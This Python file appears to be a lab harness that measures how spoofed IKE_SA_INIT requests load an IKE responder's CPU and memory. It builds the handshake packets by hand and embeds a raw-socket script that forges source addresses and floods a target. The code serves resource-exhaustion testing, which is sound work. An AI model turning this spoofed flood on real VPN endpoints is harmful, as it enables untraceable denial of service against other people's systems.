"""First messages of IKE with false senders, and what they cost the process that gets them."""

import os
from pathlib import Path

TICK = os.sysconf("SC_CLK_TCK")


def cpu(pid):
    """Seconds that the process and all its threads have used."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / TICK


def resident(pid, what="VmRSS"):
    """KiB in memory; `RssAnon` is what is no file's, code above all."""
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return int(next(line for line in lines if line.startswith(what)).split()[1])


def first_message(number):
    """An IKE_SA_INIT request with another SPI each time (RFC 7296, sections 3.1 to 3.4)."""
    def payload(following, body):
        return bytes([following, 0]) + (4 + len(body)).to_bytes(2, "big") + body

    def transform(last, kind, ident, attributes=b""):
        body = bytes([kind, 0]) + ident.to_bytes(2, "big") + attributes
        return bytes([0 if last else 3, 0]) + (4 + len(body)).to_bytes(2, "big") + body

    # AES-GCM with 128 bits, HMAC-SHA2-256, Curve25519.
    transforms = transform(False, 1, 20, bytes.fromhex("800e0080"))
    transforms += transform(False, 2, 5) + transform(True, 4, 31)
    proposal = bytes([0, 0]) + (8 + len(transforms)).to_bytes(2, "big") + bytes([1, 1, 0, 3]) + transforms
    key = (31).to_bytes(2, "big") + bytes(2) + os.urandom(32)
    body = payload(34, proposal) + payload(40, key) + payload(0, os.urandom(32))
    spi = (number + 1).to_bytes(8, "big")
    return spi + bytes(8) + bytes([33, 0x20, 34, 8]) + bytes(4) + (28 + len(body)).to_bytes(4, "big") + body


# Runs inside the initiator's namespace: reads addresses and messages, sends them with false senders.
SPOOFER = """
import socket, sys
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = socket.inet_aton(sys.argv[1])
while head := sys.stdin.buffer.read(6):
    message = sys.stdin.buffer.read(int.from_bytes(head[4:], "big"))
    udp = (500).to_bytes(2, "big") * 2 + (8 + len(message)).to_bytes(2, "big") + bytes(2) + message
    ip = bytes([0x45, 0]) + (20 + len(udp)).to_bytes(2, "big") + bytes(4) + bytes([64, 17, 0, 0]) + head[:4] + target
    out.sendto(ip + udp, (sys.argv[1], 0))
"""
